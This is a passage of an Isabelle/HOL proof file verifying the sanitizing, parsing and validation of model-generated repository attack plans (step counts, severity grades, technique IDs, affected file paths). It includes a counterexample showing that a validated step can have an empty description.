  "\<not> sublist ''[REDACTED_TOKEN]'' ''[REDACTED]''"
  "\<not> sublist ''[REDACTED_TOKEN]'' ''[REDACTED_API_KEY]''"
  by (simp_all add: sublist_code(3))

lemma sanitize_text_keeps_token:
  assumes "sublist ''[REDACTED_TOKEN]'' (sanitize_text text)"
  shows "sublist ''[REDACTED_TOKEN]'' text"
proof (cases "text = []")
  case True
  with assms show ?thesis by (simp add: sanitize_text_def)
next
  case False
  let ?w = "''[REDACTED_TOKEN]''"
  let ?t1 = "foldl (\<lambda>text pattern. re_sub pattern (\<lambda>m. ''[REDACTED]'') text) text dangerous_patterns"
  let ?t2 = "re_sub GEMINI_KEY_PATTERN (\<lambda>m. ''[REDACTED_API_KEY]'') ?t1"
  let ?t3 = "re_sub OPENAI_KEY_PATTERN (\<lambda>m. ''[REDACTED_API_KEY]'') ?t2"
  from assms False have "sublist ?w (strip ?t3)" by (simp add: sanitize_text_unfold)
  then have "sublist ?w ?t3" using sublist_strip sublist_order.order.trans by blast
  then have "sublist ?w ?t2"
    by (rule re_sub_keeps[OF pattern_ok_noempty[OF openai_ok] bracketed_redacted(2)
          token_word(1,2,3,5)])
  then have "sublist ?w ?t1"
    by (rule re_sub_keeps[OF pattern_ok_noempty[OF gemini_ok] bracketed_redacted(2)
          token_word(1,2,3,5)])
  then show ?thesis
    by (rule fold_keeps[OF all_noempty bracketed_redacted(1) token_word(1,2,3,4)])
qed

text \<open>
  C10. No character is both a digit and a letter, so the replacement function of the
  generic token substitution returns every matched token as it is, the substitution
  returns its input unchanged, and \<open>[REDACTED_TOKEN]\<close> occurs in the result of
  \<open>_sanitize_text\<close> only if it occurs in the input.
\<close>

theorem token_branch_noop:
  "\<not> (isdigit c \<and> isalpha c)
   \<and> token_repl m = m
   \<and> re_sub TOKEN_PATTERN token_repl text = text
   \<and> (sublist ''[REDACTED_TOKEN]'' (sanitize_text text) \<longrightarrow> sublist ''[REDACTED_TOKEN]'' text)"
  using digit_not_alpha[of c] token_repl_id[of m] re_sub_id[OF token_repl_id, of TOKEN_PATTERN "text"]
    sanitize_text_keeps_token[of "text"]
  by blast

theorem token_branch_noop_witness:
  "sanitize_text ''id abcdefghij0123456789abcdefghij0123456789abcd [REDACTED_TOKEN]''
     = ''id abcdefghij0123456789abcdefghij0123456789abcd [REDACTED_TOKEN]''
   \<and> sublist ''[REDACTED_TOKEN]''
       (sanitize_text ''id abcdefghij0123456789abcdefghij0123456789abcd [REDACTED_TOKEN]'')
   \<and> sublist ''[REDACTED_TOKEN]''
       ''id abcdefghij0123456789abcdefghij0123456789abcd [REDACTED_TOKEN]''"
proof -
  let ?s = "''id abcdefghij0123456789abcdefghij0123456789abcd [REDACTED_TOKEN]''"
  have v: "sanitize_text ?s = ?s" by code_simp
  have h: "sublist ''[REDACTED_TOKEN]'' (sanitize_text ?s)" unfolding v by code_simp
  from token_branch_noop[of "CHR ''a''" "''x''" ?s] h v show ?thesis by blast
qed

section \<open>Plans built from a model response\<close>

subsection \<open>Helper facts about the plan builders\<close>

lemma strip_Nil: "strip [] = []"
  by (simp add: strip_def lstrip_def rstrip_def)

lemma nth_min_mem: "xs \<noteq> [] \<Longrightarrow> xs ! min k (length xs - 1) \<in> set xs"
proof -
  assume "xs \<noteq> []"
  then have "min k (length xs - 1) < length xs" by (cases xs) (auto simp: min_def)
  then show ?thesis by (rule nth_mem)
qed

lemma normalise_severity_allowed: "normalise_severity v \<in> set ALLOWED_SEVERITIES"
  unfolding normalise_severity_def DEFAULT_OVERALL_SEVERITY_def Let_def
  by (cases v) (simp_all add: ALLOWED_SEVERITIES_def)

lemma normalise_technique_id_missing:
  "(\<forall>s. v \<noteq> JStr s) \<or> (\<exists>s. v = JStr s \<and> strip s = []) \<Longrightarrow> normalise_technique_id rt v = ''T0000''"
  unfolding normalise_technique_id_def by (cases v) auto

lemma filter_paths_subset: "filter_paths valid ps = Inr kept \<Longrightarrow> set kept \<subseteq> set valid"
proof (induction ps arbitrary: kept)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  from Cons.prems obtain r where r: "filter_paths valid ps = Inr r"
    and k: "kept = (case p of JStr s \<Rightarrow> if s \<in> set valid then s # r else r | _ \<Rightarrow> r)"
    by (auto split: if_splits sum.splits json.splits)
  from Cons.IH[OF r] have "set r \<subseteq> set valid" .
  with k show ?case by (cases p) (auto split: if_splits)
qed

lemma AttackStep_Inr:
  "AttackStep n a b c f = Inr s \<Longrightarrow>
     1 \<le> n \<and> s = \<lparr>st_step_number = n, st_description = a, st_technique_id = b,
                    st_severity = c, st_affected_files = f\<rparr>"
  unfolding AttackStep_def by (auto split: if_splits)

lemma step_from_dict_Some:
  assumes "step_from_dict rt valid hrp index d = Inr (Some s)"
  shows "set (st_affected_files s) \<subseteq> set valid \<union> set hrp"
    and "1 \<le> st_step_number s"
    and "st_description s \<noteq> []"
    and "st_severity s = normalise_severity (dict_get d ''severity'' JNull)"
    and "st_technique_id s = normalise_technique_id rt (dict_get d ''technique_id'' JNull)"
proof -
  define desc where
    "desc = strip (py_str rt (py_or (dict_get d ''description'' JNull) (JStr [])))"
  define raw where "raw = py_or (dict_get d ''affected_files'' JNull) (JList [])"
  define raw' where "raw' = (case raw of JStr s \<Rightarrow> JList [JStr s] | _ \<Rightarrow> raw)"
  from assms obtain paths where p: "iter_json raw' = Inr paths"
    unfolding step_from_dict_def Let_def raw'_def raw_def
    by (auto split: sum.splits)
  from assms p obtain filtered where f: "filter_paths valid paths = Inr filtered"
    unfolding step_from_dict_def Let_def raw'_def raw_def
    by (auto split: sum.splits)
  define files where
    "files = (if filtered = [] \<and> hrp \<noteq> []
              then [hrp ! min (index - 1) (length hrp - 1)] else filtered)"
  from assms p f have ne: "desc \<noteq> []"
    unfolding step_from_dict_def Let_def raw'_def raw_def desc_def
    by (auto split: sum.splits if_splits)
  from assms p f ne obtain n where
    a: "AttackStep n desc (normalise_technique_id rt (dict_get d ''technique_id'' JNull))
          (normalise_severity (dict_get d ''severity'' JNull)) files = Inr s"
    unfolding step_from_dict_def Let_def raw'_def raw_def desc_def files_def
    by (auto split: sum.splits if_splits)
  from AttackStep_Inr[OF a] have n: "1 \<le> n"
    and s: "s = \<lparr>st_step_number = n, st_description = desc,
                 st_technique_id = normalise_technique_id rt (dict_get d ''technique_id'' JNull),
                 st_severity = normalise_severity (dict_get d ''severity'' JNull),
                 st_affected_files = files\<rparr>"
    by simp_all
  have "set files \<subseteq> set valid \<union> set hrp"
    using filter_paths_subset[OF f] nth_min_mem[of hrp "index - 1"]
    by (auto simp: files_def)
  then show "set (st_affected_files s) \<subseteq> set valid \<union> set hrp" by (simp add: s)
  show "1 \<le> st_step_number s" using n by (simp add: s)
  show "st_description s \<noteq> []" using ne by (simp add: s)
  show "st_severity s = normalise_severity (dict_get d ''severity'' JNull)" by (simp add: s)
  show "st_technique_id s = normalise_technique_id rt (dict_get d ''technique_id'' JNull)"
    by (simp add: s)
qed

lemma plan_steps_skip:
  "(\<forall>d. raw \<noteq> JObj d) \<Longrightarrow>
     plan_steps rt valid hrp index (raw # rest) = plan_steps rt valid hrp (Suc index) rest"
  by (cases raw) simp_all

lemma plan_steps_sound:
  "plan_steps rt valid hrp index raws = Inr steps \<Longrightarrow>
     length steps \<le> length raws
     \<and> (\<forall>s \<in> set steps. \<exists>d k. JObj d \<in> set raws
            \<and> step_from_dict rt valid hrp k d = Inr (Some s))"
proof (induction raws arbitrary: index steps)
  case Nil
  then show ?case by simp
next
  case (Cons raw rest)
  have lift: "\<forall>x \<in> set ss. \<exists>d k. JObj d \<in> set (raw # rest)
                \<and> step_from_dict rt valid hrp k d = Inr (Some x)"
    if "\<forall>x \<in> set ss. \<exists>d k. JObj d \<in> set rest
                \<and> step_from_dict rt valid hrp k d = Inr (Some x)" for ss
  proof
    fix x assume "x \<in> set ss"
    with that obtain d k where "JObj d \<in> set rest"
      "step_from_dict rt valid hrp k d = Inr (Some x)" by blast
    then have "JObj d \<in> set (raw # rest)
                \<and> step_from_dict rt valid hrp k d = Inr (Some x)" by simp
    then show "\<exists>d k. JObj d \<in> set (raw # rest)
                \<and> step_from_dict rt valid hrp k d = Inr (Some x)" by blast
  qed
  have rec: "length steps \<le> length (raw # rest)
             \<and> (\<forall>s \<in> set steps. \<exists>d k. JObj d \<in> set (raw # rest)
                   \<and> step_from_dict rt valid hrp k d = Inr (Some s))"
    if "plan_steps rt valid hrp (Suc index) rest = Inr steps"
  proof -
    from Cons.IH[OF that] have len: "length steps \<le> length rest"
      and ih: "\<forall>x \<in> set steps. \<exists>d k. JObj d \<in> set rest
                  \<and> step_from_dict rt valid hrp k d = Inr (Some x)"
      by simp_all
    from len have l: "length steps \<le> length (raw # rest)" by simp
    from l lift[OF ih] show ?thesis by (rule conjI)
  qed
  show ?case
  proof (cases "\<exists>d. raw = JObj d")
    case False
    then have "plan_steps rt valid hrp (Suc index) rest = Inr steps"
      using Cons.prems plan_steps_skip[of raw rt valid hrp index rest] by simp
    then show ?thesis by (rule rec)
  next
    case True
    then obtain d where d: "raw = JObj d" by blast
    show ?thesis
    proof (cases "step_from_dict rt valid hrp index d")
      case (Inl e)
      with Cons.prems d show ?thesis by simp
    next
      case (Inr r)
      show ?thesis
      proof (cases r)
        case None
        with Cons.prems d Inr have "plan_steps rt valid hrp (Suc index) rest = Inr steps"
          by simp
        then show ?thesis by (rule rec)
      next
        case (Some s)
        with Cons.prems d Inr obtain ss where
          ss: "plan_steps rt valid hrp (Suc index) rest = Inr ss" and st: "steps = s # ss"
          by (auto split: sum.splits)
        from Cons.IH[OF ss] have len: "length ss \<le> length rest"
          and ih: "\<forall>x \<in> set ss. \<exists>d k. JObj d \<in> set rest
                      \<and> step_from_dict rt valid hrp k d = Inr (Some x)"
          by simp_all
        have "JObj d \<in> set (raw # rest)
                \<and> step_from_dict rt valid hrp index d = Inr (Some s)"
          using Inr Some d by simp
        then have hd: "\<exists>d' k. JObj d' \<in> set (raw # rest)
                    \<and> step_from_dict rt valid hrp k d' = Inr (Some s)"
          by blast
        have all: "\<forall>x \<in> set (s # ss). \<exists>d' k. JObj d' \<in> set (raw # rest)
                    \<and> step_from_dict rt valid hrp k d' = Inr (Some x)"
          using hd lift[OF ih] by (simp only: set_simps ball_simps) 
        from len have l: "length (s # ss) \<le> length (raw # rest)" by simp
        from l all show ?thesis unfolding st by (rule conjI)
      qed
    qed
  qed
qed

lemma plan_from_dict_Inr:
  assumes "plan_from_dict rt repo_id payload m hrf = Inr plan"
  shows "\<exists>d steps_payload. payload = JObj d
           \<and> dict_get d ''steps'' JNull = JList steps_payload
           \<and> plan_steps rt (list_all_paths m) (entry_paths hrf) 1 (take 3 steps_payload)
               = Inr (pl_steps plan)
           \<and> pl_steps plan \<noteq> []
           \<and> pl_overall_severity plan = normalise_severity (dict_get d ''overall_severity'' JNull)
           \<and> pl_repo_id plan = repo_id"
  using assms unfolding plan_from_dict_def
  by (auto split: json.splits if_splits sum.splits)



lemma validate_step_fields:
  "st_severity (validate_step rt vf i d) \<in> set ALLOWED_SEVERITIES"
  "st_technique_id (validate_step rt vf i d) \<noteq> []"
  "st_step_number (validate_step rt vf i d) = int i + 1"
  "length (st_affected_files (validate_step rt vf i d)) \<le> 5"
  "st_description (validate_step rt vf i d)
     = sanitize_text (strip (py_str rt (dict_get d ''description'' (JStr []))))"
  unfolding validate_step_def Let_def
  by (simp_all add: ALLOWED_SEVERITIES_def split: json.splits)


lemma validate_step_sentinel:
  "map_of d ''technique_id'' = None \<Longrightarrow> st_technique_id (validate_step rt vf i d) = ''N/A''"
  unfolding validate_step_def Let_def dict_get_def
  by (simp add: strip_Nil)

lemma validate_steps_skip:
  "(\<forall>d. raw \<noteq> JObj d) \<Longrightarrow>
     validate_steps rt vf i (raw # rest) = validate_steps rt vf (Suc i) rest"
  by (cases raw) simp_all

lemma validate_steps_sound:
  "length (validate_steps rt vf i raws) \<le> length raws
   \<and> (\<forall>s \<in> set (validate_steps rt vf i raws).
         \<exists>d k. JObj d \<in> set raws \<and> i \<le> k \<and> k < i + length raws
               \<and> s = validate_step rt vf k d)"
proof (induction raws arbitrary: i)
  case Nil
  show ?case by simp
next
  case (Cons raw rest)
  have ih_len: "length (validate_steps rt vf (Suc i) rest) \<le> length rest"
    and ih: "\<forall>s \<in> set (validate_steps rt vf (Suc i) rest).
               \<exists>d k. JObj d \<in> set rest \<and> Suc i \<le> k \<and> k < Suc i + length rest
                     \<and> s = validate_step rt vf k d"
    using Cons.IH[of "Suc i"] by simp_all
  have lift: "\<forall>s \<in> set (validate_steps rt vf (Suc i) rest).
               \<exists>d k. JObj d \<in> set (raw # rest) \<and> i \<le> k \<and> k < i + length (raw # rest)
                     \<and> s = validate_step rt vf k d"
  proof
    fix s assume "s \<in> set (validate_steps rt vf (Suc i) rest)"
    with ih obtain d k where "JObj d \<in> set rest" "Suc i \<le> k" "k < Suc i + length rest"
      "s = validate_step rt vf k d" by blast
    then have "JObj d \<in> set (raw # rest) \<and> i \<le> k \<and> k < i + length (raw # rest)
                \<and> s = validate_step rt vf k d" by simp
    then show "\<exists>d k. JObj d \<in> set (raw # rest) \<and> i \<le> k \<and> k < i + length (raw # rest)
                     \<and> s = validate_step rt vf k d" by blast
  qed
  show ?case
  proof (cases "\<exists>d. raw = JObj d")
    case False
    then have "validate_steps rt vf i (raw # rest) = validate_steps rt vf (Suc i) rest"
      using validate_steps_skip[of raw rt vf i rest] by simp
    with ih_len lift show ?thesis by simp
  next
    case True
    then obtain d where d: "raw = JObj d" by blast
    have eq: "validate_steps rt vf i (raw # rest)
                = validate_step rt vf i d # validate_steps rt vf (Suc i) rest"
      by (simp add: d)
    have hd: "\<exists>d' k. JObj d' \<in> set (raw # rest) \<and> i \<le> k \<and> k < i + length (raw # rest)
                \<and> validate_step rt vf i d = validate_step rt vf k d'"
    proof -
      have "JObj d \<in> set (raw # rest) \<and> i \<le> i \<and> i < i + length (raw # rest)
              \<and> validate_step rt vf i d = validate_step rt vf i d"
        by (simp add: d)
      then show ?thesis by blast
    qed
    from ih_len hd lift show ?thesis unfolding eq by simp
  qed
qed

lemma validate_plan_data_Inr:
  assumes "validate_plan_data rt plan_data profile max_steps = Inr vplan"
  shows "\<exists>d steps. plan_data = JObj d \<and> map_of d ''steps'' = Some (JList steps)
           \<and> vp_steps vplan
               = validate_steps rt (entry_paths (rp_high_risk_files profile)) 0
                   (slice_to max_steps steps)
           \<and> vp_steps vplan \<noteq> []
           \<and> vp_overall_severity vplan
               = (let t = lower (py_str rt (dict_get d ''overall_severity'' (JStr ''high'')))
                  in if t \<in> set ALLOWED_SEVERITIES then t else DEFAULT_OVERALL_SEVERITY)"
  using assms unfolding validate_plan_data_def Let_def
  by (auto split: json.splits option.splits if_splits)

lemma parse_and_validate_Inr:
  assumes "parse_and_validate_attack_plan rt raw profile max_steps = Inr vplan"
  shows "\<exists>plan_data. load_plan_data rt (strip_code_fence raw) = Inr plan_data
           \<and> validate_plan_data rt plan_data profile max_steps = Inr vplan"
  using assms unfolding parse_and_validate_attack_plan_def
  by (auto split: sum.splits)

lemma slice_to_3: "slice_to 3 xs = take 3 xs"
  by (simp add: slice_to_def)

subsection \<open>Affected files are paths of the manifest\<close>




subsection \<open>The overall severity is one of the four grades\<close>



subsection \<open>The steps of a plan\<close>

text \<open>
  Claim C5, as the code has it. A plan of \<open>_plan_from_dict\<close> has one to three steps;
  each has a \<open>step_number\<close> of at least 1, a description that is not empty, a severity
  of the allowed set, and comes from a dict \<open>d\<close> among the first three entries of the
  payload whose \<open>technique_id\<close> it normalises, to the sentinel \<open>T0000\<close> when the value
  is absent, not a string or blank. A plan of \<open>_parse_and_validate_attack_plan\<close> with
  \<open>max_steps = 3\<close> has one to three steps; each has a \<open>step_number\<close> from 1 to 3, a
  severity of the allowed set, at most five files and a \<open>technique_id\<close> that is not
  empty, the sentinel \<open>N/A\<close> when the key is absent. Its description may be empty (see
  the counterexample).
\<close>

theorem plan_step_constraints:
  "(plan_from_dict rt repo_id payload m hrf = Inr plan \<longrightarrow>
      1 \<le> length (pl_steps plan) \<and> length (pl_steps plan) \<le> 3
      \<and> (\<exists>top sp. payload = JObj top \<and> dict_get top ''steps'' JNull = JList sp
            \<and> (\<forall>s \<in> set (pl_steps plan).
                  1 \<le> st_step_number s \<and> st_description s \<noteq> []
                  \<and> st_severity s \<in> set ALLOWED_SEVERITIES
                  \<and> (\<exists>d. JObj d \<in> set (take 3 sp)
                        \<and> st_technique_id s
                            = normalise_technique_id rt (dict_get d ''technique_id'' JNull)))))
   \<and> ((\<forall>t. v \<noteq> JStr t) \<or> (\<exists>t. v = JStr t \<and> strip t = [])
        \<longrightarrow> normalise_technique_id rt v = ''T0000'')
   \<and> (parse_and_validate_attack_plan rt raw profile 3 = Inr vplan \<longrightarrow>
      1 \<le> length (vp_steps vplan) \<and> length (vp_steps vplan) \<le> 3
      \<and> (\<forall>s \<in> set (vp_steps vplan).
            1 \<le> st_step_number s \<and> st_step_number s \<le> 3
            \<and> st_severity s \<in> set ALLOWED_SEVERITIES
            \<and> st_technique_id s \<noteq> []
            \<and> length (st_affected_files s) \<le> 5))
   \<and> (map_of d ''technique_id'' = None
        \<longrightarrow> st_technique_id (validate_step rt vf i d) = ''N/A'')"
proof (intro conjI impI)
  assume a: "plan_from_dict rt repo_id payload m hrf = Inr plan"
  from plan_from_dict_Inr[OF a] obtain top sp where
    top: "payload = JObj top" "dict_get top ''steps'' JNull = JList sp"
    and ps: "plan_steps rt (list_all_paths m) (entry_paths hrf) 1 (take 3 sp)
               = Inr (pl_steps plan)"
    and ne: "pl_steps plan \<noteq> []"
    by blast
  from ne show "1 \<le> length (pl_steps plan)" by (cases "pl_steps plan") simp_all
  from plan_steps_sound[OF ps] have len: "length (pl_steps plan) \<le> length (take 3 sp)"
    and src: "\<forall>s \<in> set (pl_steps plan). \<exists>d k. JObj d \<in> set (take 3 sp)
                \<and> step_from_dict rt (list_all_paths m) (entry_paths hrf) k d = Inr (Some s)"
    by simp_all
  from len show "length (pl_steps plan) \<le> 3" by simp
  have "\<forall>s \<in> set (pl_steps plan).
          1 \<le> st_step_number s \<and> st_description s \<noteq> []
          \<and> st_severity s \<in> set ALLOWED_SEVERITIES
          \<and> (\<exists>d. JObj d \<in> set (take 3 sp)
                \<and> st_technique_id s
                    = normalise_technique_id rt (dict_get d ''technique_id'' JNull))"
  proof
    fix s assume "s \<in> set (pl_steps plan)"
    with src obtain d k where d: "JObj d \<in> set (take 3 sp)"
      and st: "step_from_dict rt (list_all_paths m) (entry_paths hrf) k d = Inr (Some s)"
      by blast
    have sev: "st_severity s \<in> set ALLOWED_SEVERITIES"
      unfolding step_from_dict_Some(4)[OF st] by (rule normalise_severity_allowed)
    from d step_from_dict_Some(5)[OF st]
    have "\<exists>d. JObj d \<in> set (take 3 sp)
            \<and> st_technique_id s = normalise_technique_id rt (dict_get d ''technique_id'' JNull)"
      by blast
    with step_from_dict_Some(2)[OF st] step_from_dict_Some(3)[OF st] sev
    show "1 \<le> st_step_number s \<and> st_description s \<noteq> []
          \<and> st_severity s \<in> set ALLOWED_SEVERITIES
          \<and> (\<exists>d. JObj d \<in> set (take 3 sp)
                \<and> st_technique_id s
                    = normalise_technique_id rt (dict_get d ''technique_id'' JNull))"
      by blast
  qed
  with top show "\<exists>top sp. payload = JObj top \<and> dict_get top ''steps'' JNull = JList sp
      \<and> (\<forall>s \<in> set (pl_steps plan).
            1 \<le> st_step_number s \<and> st_description s \<noteq> []
            \<and> st_severity s \<in> set ALLOWED_SEVERITIES
            \<and> (\<exists>d. JObj d \<in> set (take 3 sp)
                  \<and> st_technique_id s
                      = normalise_technique_id rt (dict_get d ''technique_id'' JNull)))"
    by blast
next
  assume "(\<forall>t. v \<noteq> JStr t) \<or> (\<exists>t. v = JStr t \<and> strip t = [])"
  then show "normalise_technique_id rt v = ''T0000''" by (rule normalise_technique_id_missing)
next
  assume a: "parse_and_validate_attack_plan rt raw profile 3 = Inr vplan"
  from parse_and_validate_Inr[OF a] obtain plan_data where
    "validate_plan_data rt plan_data profile 3 = Inr vplan" by blast
  from validate_plan_data_Inr[OF this] obtain steps where
    v: "vp_steps vplan = validate_steps rt (entry_paths (rp_high_risk_files profile)) 0
          (take 3 steps)"
    and ne: "vp_steps vplan \<noteq> []"
    unfolding slice_to_3 by blast
  from ne show "1 \<le> length (vp_steps vplan)" by (cases "vp_steps vplan") simp_all
  from validate_steps_sound[of rt "entry_paths (rp_high_risk_files profile)" 0 "take 3 steps"]
  have len: "length (vp_steps vplan) \<le> length (take 3 steps)"
    and src: "\<forall>s \<in> set (vp_steps vplan). \<exists>d k. JObj d \<in> set (take 3 steps) \<and> 0 \<le> k
                \<and> k < 0 + length (take 3 steps)
                \<and> s = validate_step rt (entry_paths (rp_high_risk_files profile)) k d"
    unfolding v by simp_all
  from len show "length (vp_steps vplan) \<le> 3" by simp
  show "\<forall>s \<in> set (vp_steps vplan).
          1 \<le> st_step_number s \<and> st_step_number s \<le> 3
          \<and> st_severity s \<in> set ALLOWED_SEVERITIES
          \<and> st_technique_id s \<noteq> []
          \<and> length (st_affected_files s) \<le> 5"
  proof
    fix s assume "s \<in> set (vp_steps vplan)"
    with src obtain d k where k: "k < 0 + length (take 3 steps)"
      and e: "s = validate_step rt (entry_paths (rp_high_risk_files profile)) k d"
      by blast
    from k have k3: "k < 3" by simp
    show "1 \<le> st_step_number s \<and> st_step_number s \<le> 3
          \<and> st_severity s \<in> set ALLOWED_SEVERITIES
          \<and> st_technique_id s \<noteq> []
          \<and> length (st_affected_files s) \<le> 5"
      unfolding e using k3 validate_step_fields(1,2,4)
      by (simp add: validate_step_fields(3))
  qed
next
  assume "map_of d ''technique_id'' = None"
  then show "st_technique_id (validate_step rt vf i d) = ''N/A''"
    by (rule validate_step_sentinel)
qed

theorem plan_step_constraints_witness:
  "(\<exists>plan. plan_from_dict demo_runtime ''demo'' demo_payload demo_manifest
              (select_high_risk_files demo_manifest 10) = Inr plan
           \<and> map st_technique_id (pl_steps plan) = [''T1552'']
           \<and> 1 \<le> length (pl_steps plan) \<and> length (pl_steps plan) \<le> 3
           \<and> (\<forall>s \<in> set (pl_steps plan). 1 \<le> st_step_number s \<and> st_description s \<noteq> []
                 \<and> st_severity s \<in> set ALLOWED_SEVERITIES)
           \<and> normalise_technique_id demo_runtime JNull = ''T0000''
           \<and> (\<exists>vplan. parse_and_validate_attack_plan demo_runtime bare_text demo_profile 3
                        = Inr vplan
                 \<and> map st_technique_id (vp_steps vplan) = [''N/A'']
                 \<and> 1 \<le> length (vp_steps vplan) \<and> length (vp_steps vplan) \<le> 3
                 \<and> (\<forall>s \<in> set (vp_steps vplan). 1 \<le> st_step_number s \<and> st_step_number s \<le> 3
                       \<and> st_severity s \<in> set ALLOWED_SEVERITIES
                       \<and> st_technique_id s \<noteq> []
                       \<and> length (st_affected_files s) \<le> 5)))"
proof -
  have c1: "(case plan_from_dict demo_runtime ''demo'' demo_payload demo_manifest
                    (select_high_risk_files demo_manifest 10) of
               Inl e \<Rightarrow> False
             | Inr plan \<Rightarrow> map st_technique_id (pl_steps plan) = [''T1552''])"
    by code_simp
  then obtain plan where
    p: "plan_from_dict demo_runtime ''demo'' demo_payload demo_manifest
          (select_high_risk_files demo_manifest 10) = Inr plan"
    and pm: "map st_technique_id (pl_steps plan) = [''T1552'']"
    by (cases "plan_from_dict demo_runtime ''demo'' demo_payload demo_manifest
                 (select_high_risk_files demo_manifest 10)") simp_all
  have c2: "(case parse_and_validate_attack_plan demo_runtime bare_text demo_profile 3 of
               Inl e \<Rightarrow> False
             | Inr vplan \<Rightarrow> map st_technique_id (vp_steps vplan) = [''N/A''])"
    by code_simp
  then obtain vplan where
    v: "parse_and_validate_attack_plan demo_runtime bare_text demo_profile 3 = Inr vplan"
    and vm: "map st_technique_id (vp_steps vplan) = [''N/A'']"
    by (cases "parse_and_validate_attack_plan demo_runtime bare_text demo_profile 3") simp_all
  have n: "(\<forall>t. JNull \<noteq> JStr t) \<or> (\<exists>t. JNull = JStr t \<and> strip t = [])" by simp
  note t = plan_step_constraints[of demo_runtime "''demo''" demo_payload demo_manifest
              "select_high_risk_files demo_manifest 10" plan JNull bare_text demo_profile vplan
              "[]" "[]" 0]
  have x: "1 \<le> length (pl_steps plan) \<and> length (pl_steps plan) \<le> 3
      \<and> (\<exists>top sp. demo_payload = JObj top \<and> dict_get top ''steps'' JNull = JList sp
            \<and> (\<forall>s \<in> set (pl_steps plan).
                  1 \<le> st_step_number s \<and> st_description s \<noteq> []
                  \<and> st_severity s \<in> set ALLOWED_SEVERITIES
                  \<and> (\<exists>d. JObj d \<in> set (take 3 sp)
                        \<and> st_technique_id s
                            = normalise_technique_id demo_runtime
                                (dict_get d ''technique_id'' JNull))))"
    using t[THEN conjunct1] p by (rule mp)
  from x have f1: "1 \<le> length (pl_steps plan)" and f2: "length (pl_steps plan) \<le> 3"
    by simp_all
  from x have f3: "\<forall>s \<in> set (pl_steps plan). 1 \<le> st_step_number s
         \<and> st_description s \<noteq> [] \<and> st_severity s \<in> set ALLOWED_SEVERITIES"
    by blast
  have f4: "normalise_technique_id demo_runtime JNull = ''T0000''"
    using t[THEN conjunct2, THEN conjunct1] n by (rule mp)
  have y: "1 \<le> length (vp_steps vplan) \<and> length (vp_steps vplan) \<le> 3
      \<and> (\<forall>s \<in> set (vp_steps vplan).
            1 \<le> st_step_number s \<and> st_step_number s \<le> 3
            \<and> st_severity s \<in> set ALLOWED_SEVERITIES
            \<and> st_technique_id s \<noteq> []
            \<and> length (st_affected_files s) \<le> 5)"
    using t[THEN conjunct2, THEN conjunct2, THEN conjunct1] v by (rule mp)
  have r: "\<exists>vplan. parse_and_validate_attack_plan demo_runtime bare_text
                        demo_profile 3 = Inr vplan
                 \<and> map st_technique_id (vp_steps vplan) = [''N/A'']
                 \<and> 1 \<le> length (vp_steps vplan) \<and> length (vp_steps vplan) \<le> 3
                 \<and> (\<forall>s \<in> set (vp_steps vplan). 1 \<le> st_step_number s
                       \<and> st_step_number s \<le> 3
                       \<and> st_severity s \<in> set ALLOWED_SEVERITIES
                       \<and> st_technique_id s \<noteq> []
                       \<and> length (st_affected_files s) \<le> 5)"
    by (rule exI[of _ vplan], intro conjI)
       (rule v vm y[THEN conjunct1] y[THEN conjunct2, THEN conjunct1]
             y[THEN conjunct2, THEN conjunct2])+
  show ?thesis
    by (rule exI[of _ plan], intro conjI) (rule p pm f1 f2 f3 f4 r)+
qed

text \<open>
  The claim as worded fails for \<open>_parse_and_validate_attack_plan\<close>: the answer
  \<open>{"steps": [{}]}\<close> is accepted, and its one step has the empty description.
\<close>

theorem validated_plan_empty_description_counterexample:
  "(case parse_and_validate_attack_plan demo_runtime bare_text demo_profile 3 of
      Inl e \<Rightarrow> False
    | Inr vplan \<Rightarrow>
        map st_description (vp_steps vplan) = [[]]
        \<and> \<not> list_all spec_step_ok (vp_steps vplan))"
  by code_simp

subsection \<open>The texts of a validated plan are sanitized\<close>








section \<open>Failure handling of the plan generators\<close>

















end
